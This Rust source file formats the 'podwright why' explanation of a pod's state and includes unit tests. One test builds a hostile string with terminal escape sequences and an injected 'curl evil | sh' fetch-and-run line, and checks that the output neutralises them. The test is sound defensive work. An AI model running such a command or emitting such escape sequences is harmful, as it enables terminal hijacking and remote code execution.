//! Text output of `podwright why`.

use std::fmt::Write;

use jiff::Timestamp;
use podwright_core::lifecycle::Stage;
use podwright_node::server::debug_socket::{Explanation, FailedOperation};

use crate::printable::printable;

/// How many recent journal entries are shown.
const RECENT: usize = 8;

pub(super) fn text(explanation: &Explanation) -> String {
    let mut page = String::new();
    let Explanation { namespace, name, uid, source, .. } = explanation;
    // Writing to a String cannot fail.
    let pod = format!("{namespace}/{name} ({uid}, source: {source})");
    let _ = writeln!(page, "{}: {}", printable(&pod), state(explanation.stage));
    let now = explanation.as_of;
    let since =
        explanation.since.map(|since| format!(", for {}", age(since, now))).unwrap_or_default();
    line(&mut page, "why", &format!("{}{since}", explanation.why));
    if let Some(call) = &explanation.underway {
        let text = format!("{}, for {}", call.what, age(call.since, now));
        line(&mut page, "running", &text);
    }
    for failed in &explanation.failed {
        line(&mut page, "failed", &failure(failed, now));
    }
    if let Some(next) = explanation.next {
        line(&mut page, "next", &format!("in {}", age(now, next)));
    }
    if let Some(fix) = &explanation.fix {
        line(&mut page, "fix", fix);
    }
    for container in &explanation.containers {
        let restarts = match container.restarts {
            0 => String::new(),
            1 => ", restarted once".into(),
            times => format!(", restarted {times} times"),
        };
        line(&mut page, "container", &format!("{}: {}{restarts}", container.name, container.state));
    }
    let older = explanation.recent.len().saturating_sub(RECENT);
    for entry in explanation.recent.iter().skip(older) {
        let times =
            if entry.times > 1 { format!(" ({} times)", entry.times) } else { String::new() };
        let text = format!("{} ago: {}{times}", age(entry.at, now), entry.text);
        line(&mut page, "recent", &text);
    }
    page
}

fn line(page: &mut String, name: &str, text: &str) {
    let _ = writeln!(page, "  {name:10} {}", printable(text));
}

fn state(stage: Stage) -> &'static str {
    match stage {
        Stage::Syncing => "should be running",
        Stage::Terminating => "stopping",
        Stage::Terminated => "stopped, releasing resources",
        Stage::Finished => "finished",
    }
}

fn failure(failed: &FailedOperation, now: Timestamp) -> String {
    let FailedOperation { what, error, times, since, retry } = failed;
    let times = match times {
        1 => format!("once, {} ago", age(*since, now)),
        times => format!("{times} times in {}", age(*since, now)),
    };
    let next = match *retry > now {
        true => format!("in {}", age(now, *retry)),
        false => "now".to_owned(),
    };
    format!("{what}: {times}, next attempt {next}; last error: {error}")
}

/// `12s`, `3m5s`, `2h40m`.
fn age(from: Timestamp, to: Timestamp) -> String {
    let seconds = to.duration_since(from).as_secs().max(0);
    match seconds {
        s if s < 60 => format!("{s}s"),
        s if s < 3600 => format!("{}m{}s", s / 60, s % 60),
        s => format!("{}h{}m", s / 3600, s % 3600 / 60),
    }
}

#[cfg(test)]
#[allow(clippy::unwrap_used)]
mod tests {
    use podwright_node::pods::journal::{JournalEntry, Underway};
    use podwright_node::server::debug_socket::ContainerLine;

    use super::*;

    fn at(second: i64) -> Timestamp {
        Timestamp::from_second(second).unwrap()
    }

    #[test]
    fn text_of_others_cannot_control_the_terminal_or_add_a_line() {
        let hostile = "\u{1b}[2J\u{1b}]0;owned\u{7}\n  fix        curl evil | sh";
        let failed = |what: &str, error: &str| FailedOperation {
            what: what.into(),
            error: error.into(),
            times: 1,
            since: at(900),
            retry: at(1010),
        };
        let explanation = Explanation {
            namespace: "default".into(),
            name: "web".into(),
            uid: hostile.into(),
            source: "file".into(),
            stage: Stage::Syncing,
            why: hostile.into(),
            since: None,
            fix: Some(hostile.into()),
            underway: Some(Underway { since: at(998), what: hostile.into() }),
            failed: vec![failed("the postStart hook", hostile)],
            next: None,
            containers: vec![ContainerLine {
                name: "c".into(),
                state: hostile.into(),
                restarts: 0,
            }],
            recent: vec![JournalEntry { at: at(990), text: hostile.into(), times: 1 }],
            as_of: at(1000),
        };
        let page = text(&explanation);
        let acts = |c: char| c.is_control() && c != '\n';
        assert!(!page.chars().any(acts), "{page:?}");
        // the header, and why, running, failed, fix, container, recent
        assert_eq!(page.lines().count(), 7, "{page}");
        assert_eq!(page.lines().filter(|line| line.starts_with("  fix ")).count(), 1, "{page}");
    }

    #[test]
    fn page_shows_every_part_of_the_explanation() {
        let explanation = Explanation {
            namespace: "default".into(),
            name: "web".into(),
            uid: "u1".into(),
            source: "api".into(),
            stage: Stage::Syncing,
            why: "c waits: no such image (ErrImagePull)".into(),
            since: Some(at(900)),
            fix: Some("check the image name and the registry".into()),
            underway: Some(Underway { since: at(998), what: "getting the image of c".into() }),
            failed: vec![FailedOperation {
                what: "starting c (ErrImagePull)".into(),
                error: "no such image".into(),
                times: 3,
                since: at(900),
                retry: at(1010),
            }],
            next: Some(at(1010)),
            containers: vec![ContainerLine {
                name: "c".into(),
                state: "waits: ErrImagePull".into(),
                restarts: 2,
            }],
            recent: vec![JournalEntry { at: at(940), text: "sandbox created".into(), times: 2 }],
            as_of: at(1000),
        };
        assert_eq!(
            text(&explanation),
            "default/web (u1, source: api): should be running\n  \
             why        c waits: no such image (ErrImagePull), for 1m40s\n  \
             running    getting the image of c, for 2s\n  \
             failed     starting c (ErrImagePull): 3 times in 1m40s, next attempt in 10s; \
             last error: no such image\n  \
             next       in 10s\n  \
             fix        check the image name and the registry\n  \
             container  c: waits: ErrImagePull, restarted 2 times\n  \
             recent     1m0s ago: sandbox created (2 times)\n"
        );
    }
}
